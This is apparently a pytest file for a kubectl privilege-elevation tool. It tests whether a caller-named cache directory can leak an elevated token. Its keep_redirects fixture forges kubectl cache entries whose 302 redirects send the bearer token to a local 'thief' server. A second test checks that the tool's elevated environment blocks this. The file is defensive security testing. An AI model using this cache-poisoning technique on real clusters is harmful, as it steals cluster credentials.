"""What kubectl believes of a cache directory: why an elevated one never gets one that the caller names."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
from typing import TYPE_CHECKING

import pytest

from kubectl_stepup.kubeconfig.overlay import elevated_environment
from kubectl_stepup.kubectl.process import find
from tests.support.api_server import api_server, reply, thief

if TYPE_CHECKING:
    from http.server import BaseHTTPRequestHandler
    from pathlib import Path

    from tests.support.api_server import APIServer

TOKEN = "an-elevated-token"


def honest(handler: BaseHTTPRequestHandler) -> None:
    answers = {
        "/api": {"kind": "APIVersions", "versions": ["v1"]},
        "/apis": {"kind": "APIGroupList", "apiVersion": "v1", "groups": []},
        "/api/v1": {"kind": "APIResourceList", "groupVersion": "v1", "resources": [
            {"name": "pods", "singularName": "pod", "namespaced": True, "kind": "Pod", "verbs": ["get", "delete"]}
        ]},
    }  # fmt: skip
    body = answers.get(handler.path.partition("?")[0], {"kind": "Status", "apiVersion": "v1", "status": "Success"})
    reply(handler, 200, json.dumps(body).encode(), (("Content-Type", "application/json"),))


def keep_redirects(directory: Path, api: APIServer, location: str) -> None:
    """Write answers as kubectl keeps them: of the server, that everything has moved."""
    (directory / "http").mkdir(parents=True)
    head = f"HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\nX-Varied-Accept: \r\n"
    kept = f"{head}Cache-Control: max-age=99999999\r\nDate: Mon, 01 Jan 2024 00:00:00 GMT\r\n\r\n".encode()
    for path in ("/api", "/apis", "/api/v1"):
        for url in (f"{api.url}{path}?timeout=32s", f"{api.url}{path}"):
            name = hashlib.sha256(url.encode()).hexdigest()
            (directory / "http" / name).write_bytes(hashlib.sha256(kept).digest() + kept)


def run_kubectl(api: APIServer, home: Path, *flags: str, **environ: str) -> None:
    data = base64.b64encode(api.ca_pem.encode()).decode()
    config = {
        "current-context": "c",
        "clusters": [{"name": "c", "cluster": {"server": api.url, "certificate-authority-data": data}}],
        "users": [{"name": "u", "user": {"token": TOKEN}}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
    }
    (home / "config").write_text(json.dumps(config))
    whole = {"HOME": str(home), "PATH": os.environ["PATH"], "KUBECONFIG": str(home / "config"), **environ}
    words = [find(os.environ, also_wheel=True), "delete", "pod", "x", "--wait=false", *flags]
    subprocess.run(words, env=whole, capture_output=True, timeout=60, check=False)


@pytest.mark.parametrize("named_by", ["flag", "variable"])
def test_a_kept_answer_sends_the_token_to_another_host(named_by: str, tmp_path: Path) -> None:
    with api_server(honest) as api, thief() as elsewhere:
        keep_redirects(tmp_path / "d", api, f"{elsewhere.url}/stolen")
        if named_by == "flag":
            run_kubectl(api, tmp_path, f"--cache-dir={tmp_path / 'd'}")
        else:
            run_kubectl(api, tmp_path, KUBECACHEDIR=str(tmp_path / "d"))
        assert set(elsewhere.tokens) == {f"Bearer {TOKEN}"}


def test_in_the_environment_of_an_elevated_command_it_does_not(tmp_path: Path) -> None:
    with api_server(honest) as api, thief() as elsewhere:
        keep_redirects(tmp_path / "d", api, f"{elsewhere.url}/stolen")
        environ = elevated_environment(
            {"KUBECACHEDIR": str(tmp_path / "d")},
            overlay_path=str(tmp_path / "config"),
            kubeconfig_files=[],
            session_id="0123",
        )
        run_kubectl(api, tmp_path, **environ)
        assert elsewhere.seen == []
        assert any(line.startswith("DELETE ") for line in api.lines)
